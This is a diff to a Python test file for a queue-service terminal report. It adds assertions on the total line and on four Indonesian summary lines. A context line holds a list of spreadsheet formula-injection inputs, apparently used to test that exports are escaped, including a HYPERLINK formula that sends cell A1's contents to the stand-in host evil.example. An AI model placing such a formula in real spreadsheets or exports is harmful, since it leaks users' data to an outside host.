@@ -190,7 +190,15 @@ def test_the_terminal_table(scenario: QueueService, store: Store, site: Site) ->
         "36.0",
         "60.0",
     ]
-    assert lines[-1].split()[:3] == ["Jumlah", "7", "4"]
+    total = next(line for line in lines if line.startswith("Jumlah"))
+    assert total.split()[:3] == ["Jumlah", "7", "4"]
+    # then the figures counted apart: nothing stopped, nobody asked for help
+    assert lines[-4:] == [
+        "Antrean tak terlayani karena layanan dihentikan: 0",
+        "Panggilan Butuh bantuan: 0",
+        "Ditangani petugas: 0",
+        "Median waktu sampai ditangani (menit): -",
+    ]
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"]
